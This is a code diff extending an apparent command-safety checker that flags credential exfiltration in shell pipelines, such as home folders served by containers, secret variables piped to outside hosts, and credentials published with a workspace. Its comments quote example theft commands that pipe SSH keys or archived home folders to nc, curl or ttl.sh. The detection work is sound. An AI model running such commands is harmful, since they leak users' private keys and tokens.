@@ -19,15 +19,15 @@ import { UPLOAD_COMMANDS } from '../programs/rows/network';
 import type { Form } from '../programs/row';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
-import { credentialKind, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
-import { landingPaths, placeInFolder, type PathPlace } from '../programs/pathResolver';
+import { credentialKind, homeHolderAtWorst, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
+import { containerRun, landingPaths, placeInFolder, type PathPlace } from '../programs/pathResolver';
 import { workingFolderOf } from '../programs/writeTargets';
 import { readTextCommands } from './textCommands';
-import { fileUrlWords, isUnplaced, secretNamedVerb, sendsWordsAtWorst, unplacedWords } from './unplacedSenders';
+import { fileUrlWords, isUnplaced, publishesAtWorst, secretNamedVerb, sendsWordsAtWorst, unplacedWords } from './unplacedSenders';
 import { unreadCodePrints } from './unreadPrinters';
 import { secretAskedByName } from './secretReads';
 import { commandsRunByUnplaced } from './unplacedRunners';
-import { isServiceHost, secretVariablesIn, serviceOfVariable } from './secretVariables';
+import { isLoopbackHost, isServiceHost, secretVariablesIn, serviceOfVariable } from './secretVariables';
 
 /** One command of a pipeline, read through its record (wrappers peeled, forms read once). */
 export interface PipelineCommand {
@@ -177,7 +177,8 @@ export function maySend(inside: SegmentRecord, redirects: readonly Redirect[]): 
   }
   const name = commandName(inside.argv[0])?.name ?? null;
   // A program the table cannot place may send what it is handed (handedToUnplaced).
-  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(inside).length > 0 || networkCapable(inside) !== null || sendsWordsAtWorst(inside));
+  // A listener may be a container serving what is bound into it (containerServesHome).
+  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(inside).length > 0 || networkCapable(inside) !== null || sendsWordsAtWorst(inside) || inside.forms.forms.some((form) => form.role === 'listener'));
 }
 
 /**
@@ -314,31 +315,32 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
  * deduplicated) first: a path met twice gives the same answer twice, so the first hit is the
  * same, and the usual word (no credential) costs no list.
  */
-function credentialInWord(word: Word, place: PathPlace, atWorst = false): string | null {
+function credentialInWord(word: Word, place: PathPlace, atWorst = false, whole = atWorst): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
   // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`, an awk program's
   // `getline < "~/.ssh/id_rsa"`): each of its words, quotes and brackets taken off. The whole text
   // first: a path may hold a blank (`…/Default/Login Data`).
   if (/[\s;]/.test(text) && text.length <= MAX_COMMAND_TEXT) {
-    const whole = credentialAt(text, place, atWorst);
-    if (whole !== null) return whole;
+    const all = credentialAt(text, place, atWorst, whole);
+    if (all !== null) return all;
     for (const part of text.split(/[\s;"'()<>|&{}]+/)) {
       if (part === '' || part === text) continue;
-      const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place, atWorst);
+      const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place, atWorst, whole);
       if (found !== null) return found;
     }
     return null;
   }
-  let found = credentialAt(text, place, atWorst);
+  let found = credentialAt(text, place, atWorst, whole);
   if (found !== null) return found;
   const at = text.lastIndexOf('@');
-  if (at !== -1 && (found = credentialAt(text.slice(at + 1), place, atWorst)) !== null) return found;
+  if (at !== -1 && (found = credentialAt(text.slice(at + 1), place, atWorst, whole)) !== null) return found;
   const eq = text.indexOf('=');
-  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), place, atWorst)) !== null) return found;
+  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), place, atWorst, whole)) !== null) return found;
   const colon = text.indexOf(':');
-  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place, atWorst)) !== null) return found;
-  return credentialAt(upTo(text, ','), place, atWorst);
+  // After a `:` is a remote's path at least as often (`dev:/home/ubuntu/`, where a copy lands): no home sent whole there.
+  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place, atWorst, false)) !== null) return found;
+  return credentialAt(upTo(text, ','), place, atWorst, whole);
 }
 
 /** Longest word read as command text for the credentials it names. */
@@ -355,28 +357,49 @@ function upTo(text: string, separator: string): string {
  * `.env` is one wherever it is), then where it lands: in each folder the command may run in, and
  * through the links made on the line or found on disk (`ln -s ~/.ssh/id_rsa k; cat k | nc h 1`).
  */
-function credentialAt(candidate: string, place: PathPlace, atWorst: boolean): string | null {
+function credentialAt(candidate: string, place: PathPlace, atWorst: boolean, whole = atWorst): string | null {
   const path = upTo(candidate, ';');
   // `-` is standard input or output, no file (`-d @-`, `-T -`).
   if (path === '' || path === '-') return null;
   // An option word (`-d`) or a file reference (`@-`, read after the `@`) is no path of its own.
   const worst = atWorst && !/^[-@]/.test(path);
-  const kind = credentialKind(path, place.home) ?? (worst ? homeStateAtWorst(path, place.home) : null);
+  const holder = worst && whole;
+  // At its worst a whole home (or a folder holding homes) goes with its keys: `updog -d ~`, `cd ~ &&
+  // python3 -m http.server`, `tar czf - -C ~ . | nc` (docs/decisions.md "A home sent whole, a
+  // credential published with the workspace").
+  const kind = credentialKind(path, place.home) ?? (worst ? homeStateAtWorst(path, place.home) : null) ?? (holder ? homeHolderAtWorst(path, place.home) : null);
   if (kind !== null) return `${kind} (${path})`;
   for (const landed of landingPaths(path, place, true, true).paths) {
-    const there = credentialKind(landed, place.home) ?? (worst ? homeStateAtWorst(landed, place.home) : null);
+    const there = credentialKind(landed, place.home) ?? (worst ? homeStateAtWorst(landed, place.home) : null) ?? (holder ? homeHolderAtWorst(landed, place.home) : null);
     if (there !== null) return `${there} (${path}, in ${landed})`;
   }
   return null;
+}
+
+const NONE: ReadonlySet<number> = new Set();
+
+/**
+ * The indexes of the words that name where a program works (`tar -C ~ .ssh`: `~`; `--directory=~`),
+ * not what it reads: the folder itself is not taken whole as sent (`tar -C ~ -cf - projects/app`
+ * sends one project).
+ */
+function workingFolderWords(options: readonly string[], argv: readonly Word[]): Set<number> {
+  const out = new Set<number>();
+  for (let k = 1; k < argv.length; k++) {
+    const text = literalText(argv[k]) ?? '';
+    if (options.includes(text)) out.add(k + 1);
+    else if (options.some((option) => text.startsWith(`${option}=`) || (/^-[A-Za-z]$/.test(option) && text.startsWith(option) && text.length > 2))) out.add(k);
+  }
+  return out;
 }
 
 /**
  * The first credential named by `words[from…]`; `atWorst`: a home's configuration and state
  * count too (the words' content leaves: {@link homeStateAtWorst}).
  */
-function credentialIn(words: readonly Word[], from: number, place: PathPlace, atWorst = false): string | null {
+function credentialIn(words: readonly Word[], from: number, place: PathPlace, atWorst = false, notWhole: ReadonlySet<number> = NONE): string | null {
   for (let k = from; k < words.length; k++) {
-    const found = credentialInWord(words[k]!, place, atWorst);
+    const found = credentialInWord(words[k]!, place, atWorst, atWorst && !notWhole.has(k));
     if (found !== null) return found;
   }
   return null;
@@ -434,7 +457,7 @@ function sourceOf(command: PipelineCommand, flows = false): string | null {
   // .subversion/auth`).
   const row = rowFor(name);
   const moved = row?.workingFolder === undefined ? place : placeInFolder(place, workingFolderOf(row, argv));
-  return credentialIn(argv, 1, moved, flows);
+  return credentialIn(argv, 1, moved, flows, row?.workingFolder === undefined ? NONE : workingFolderWords(row.workingFolder, argv));
 }
 
 /**
@@ -444,6 +467,10 @@ function sourceOf(command: PipelineCommand, flows = false): string | null {
 export function checkExfiltration(pipeline: readonly PipelineCommand[], home: string, openSocket = false): HardlineFinding | null {
   let sink: string | null = null;
   for (let k = 0; k < pipeline.length && sink === null; k++) sink = sinkName(pipeline[k]!);
+  for (const command of pipeline) {
+    const served = containerServesHome(command);
+    if (served !== null) return hardlineFinding('credential-exfiltration', served);
+  }
   const unplaced = handedToUnplaced(pipeline, home);
   if (unplaced !== null) return unplaced;
   // Most pipelines send nothing anywhere; only then are their words read for credentials.
@@ -466,6 +493,25 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
     if (onward || openSocket) return hardlineFinding('credential-exfiltration', `the machine's cloud credentials (from the metadata service) go to ${sink}`);
   }
   return printedSecretJoined(pipeline, home, openSocket);
+}
+
+/**
+ * A container run that listens on the machine's addresses (`-p 5000:5000`, `-P`: the row's
+ * `listener` forms) with a whole home or the root bound into it (`-v /:/data`, `-v "$HOME":/data`):
+ * whatever the image serves, it may serve that folder, and the home's keys with it (docs/decisions.md
+ * "A home sent whole, a credential published with the workspace"). A bind of one tool's folder
+ * (`-v ~/.aws:/root/.aws -p 8080:8080`) is how an application is given its credentials, and is
+ * not read here. In words, or null.
+ */
+function containerServesHome(command: PipelineCommand): string | null {
+  const inside = command.record.inside;
+  if (!inside.forms.forms.some((form) => form.role === 'listener' && form.wrapped === undefined)) return null;
+  const run = containerRun(inside.argv, command.place);
+  for (const mount of run?.place.mounts ?? []) {
+    const what = homeHolderAtWorst(mount.host, command.place.home);
+    if (what !== null) return `${what} (${mount.host}, bound at ${mount.inside}) is served by a container listening on the network (${commandName(inside.argv[0])?.name ?? 'a container runner'})`;
+  }
+  return null;
 }
 
 /**
@@ -501,7 +547,8 @@ function handedToUnplaced(pipeline: readonly PipelineCommand[], home: string): H
     // a pipeline of its own): a word is read when short enough to be a command's text.
     let budget = UNPLACED_SUBSTITUTION_TEXT;
     for (const word of [...words.sent, ...words.other]) {
-      if (word.kind === 'literal' || !(word.raw.includes('$(') || word.raw.includes('`')) || word.raw.length > MAX_COMMAND_TEXT || word.raw.length > budget) continue;
+      // A process substitution (`-f <(tar -C ~ -cf - .kube)`) is a file whose content is the command's output.
+      if (word.kind === 'literal' || !(word.raw.includes('$(') || word.raw.includes('`') || word.raw.includes('<(')) || word.raw.length > MAX_COMMAND_TEXT || word.raw.length > budget) continue;
       budget -= word.raw.length;
       // The commands of the word's outer substitutions: deeper ones are read as their own lines.
       for (const inner of readTextCommands(word.raw, home).slice(0, MAX_UNPLACED_INNER)) {
@@ -692,6 +739,13 @@ function secretVariableSent(pipeline: readonly PipelineCommand[], index: number)
     const foreign = hosts.find((host) => !isServiceHost(service, host));
     if (foreign !== undefined) return `the ${service.service} secret in $${variable}, sent to ${foreign}, a host it is not made for,`;
   }
+  // Printed into the sink's standard input (`echo "$VSCE_PAT" | curl -d @- https://h`), a secret of
+  // no known service is the data of the request, not the header or option that signs it in: sent
+  // to a literal host off this machine, it leaves (docs/decisions.md "A home sent whole, a
+  // credential published with the workspace").
+  const piped = upstream.find((variable) => serviceOfVariable(variable) === undefined);
+  const away = hosts.find((host) => !isLoopbackHost(host));
+  if (piped !== undefined && away !== undefined) return `the secret in $${piped} (a variable named for a secret), printed into what ${name ?? 'the sink'} sends to ${away},`;
   return null;
 }
 
@@ -796,6 +850,8 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
   for (let k = 0; k < line.length; k++) {
     const command = line[k]!;
     const argv = command.record.peeled.argv;
+    const published = tainted.size > 0 ? publishedWorkspaceFile(command, tainted) : null;
+    if (published !== null) return hardlineFinding('credential-exfiltration', published);
     if (tainted.size > 0 && mayHandOn[k] === true) {
       // The file holds the credential: handed to such a program, it is handed on as the credential
       // itself would be (`tar czf /tmp/k.tgz ~/.ssh && frob /tmp/k.tgz host.example`).
@@ -818,17 +874,22 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
     }
     const upstream = command.pipedFrom >= 0 ? line[command.pipedFrom] : undefined;
     const read = sourceOf(command, true);
-    const source = read ?? printedSecret(command.record) ?? (upstream === undefined ? null : (sourceOf(upstream, true) ?? printedSecret(upstream.record)));
+    const fed = upstream === undefined ? null : sourceOf(upstream, true);
+    const source = read ?? printedSecret(command.record) ?? fed ?? (upstream === undefined ? null : printedSecret(upstream.record));
     const name = commandName(argv[0])?.name;
     if (source !== null) {
       for (const path of outputFiles(command)) tainted.set(path, source);
       // At its worst, a command that reads a credential writes it into the other files it names
       // (an archiver's archive: `ditto -c -k ~/Library/Keychains /tmp/k.zip`, `tar czf /tmp/k.tgz
-      // ~/.ssh`, `zip -r k.zip ~/.aws`): the gate does not know every program's output operand.
-      if (read !== null && !NOT_READERS.has(name ?? '')) {
+      // ~/.ssh`, `zip -r k.zip ~/.aws`): the gate does not know every program's output operand. So
+      // does one fed a credential file's content on its input (`tar -C ~ -c .aws | docker import -
+      // ttl.sh/k:1h` makes the image a later `docker push ttl.sh/k:1h` sends); a secret printed
+      // into a login's input is used there, and is not read so.
+      const reader = read ?? fed;
+      if (reader !== null && !NOT_READERS.has(name ?? '')) {
         for (const word of argv.slice(1)) {
           const text = literalText(word);
-          if (text !== null && !text.startsWith('-') && /[/.]/.test(text) && !tainted.has(text)) tainted.set(text, read);
+          if (text !== null && !text.startsWith('-') && /[/.]/.test(text) && !tainted.has(text)) tainted.set(text, reader);
         }
       }
       if (name === 'tee') for (const word of argv.slice(1)) if (!(literalText(word) ?? '-').startsWith('-')) tainted.set(wordPathText(word), source);
@@ -836,6 +897,43 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
     if ((name === 'cp' || name === 'install') && argv.length >= 3) {
       const copied = credentialIn(argv.slice(1, -1).filter((word) => !(literalText(word) ?? '').startsWith('-')), 0, command.place, true);
       if (copied !== null) tainted.set(wordPathText(argv[argv.length - 1]!), copied);
+    }
+  }
+  return null;
+}
+
+/** A path written relative to the folder the line runs in, as `a/b` (`./` and a trailing `/` taken off; `.` for the folder itself), or null. */
+function workspaceRelative(path: string): string | null {
+  if (path === '' || /^[/~$]/.test(path) || /(?:^|\/)\.\.(?:\/|$)/.test(path)) return null;
+  const trimmed = path.replace(/^(?:\.\/)+/, '').replace(/\/+$/, '');
+  return trimmed === '' ? '.' : trimmed;
+}
+
+/**
+ * A credential copied or written into the workspace earlier on the line (`cp ~/.npmrc ./`, `cp -r
+ * ~/.ssh ./media`), then published with it (docs/decisions.md "A home sent whole, a credential
+ * published with the workspace"): a publisher of the folder the line runs in (a row's `publishes`
+ * form, `npm publish`, `cargo publish`: an upload of `.`), an upload of a folder holding the file,
+ * or a program the table cannot place whose verb publishes (`vsce publish`, `twine upload dist/*`:
+ * what it uploads is built from the workspace). In words, or null.
+ */
+function publishedWorkspaceFile(command: PipelineCommand, tainted: ReadonlyMap<string, string>): string | null {
+  const inside: Array<[string, string]> = [];
+  for (const [path, source] of tainted) {
+    const relative = workspaceRelative(path);
+    if (relative !== null) inside.push([relative, source]);
+  }
+  if (inside.length === 0) return null;
+  const name = commandName(command.record.peeled.argv[0])?.name ?? 'a program';
+  if (publishesAtWorst(command.record)) {
+    const [path, source] = inside[0]!;
+    return `${source}, copied into the workspace (${path}) earlier on the line, goes to ${name} (a program the gate cannot place whose verb publishes what is built from the workspace)`;
+  }
+  for (const form of uploadForms(command.record.inside)) {
+    const folder = form.value === null ? null : workspaceRelative(wordPathText(form.value));
+    if (folder === null) continue;
+    for (const [path, source] of inside) {
+      if (folder === '.' || path === folder || path.startsWith(`${folder}/`)) return `${source}, copied into the workspace (${path}) earlier on the line, goes to ${form.program || name}, which uploads ${folder === '.' ? 'the folder it runs in' : folder}`;
     }
   }
   return null;
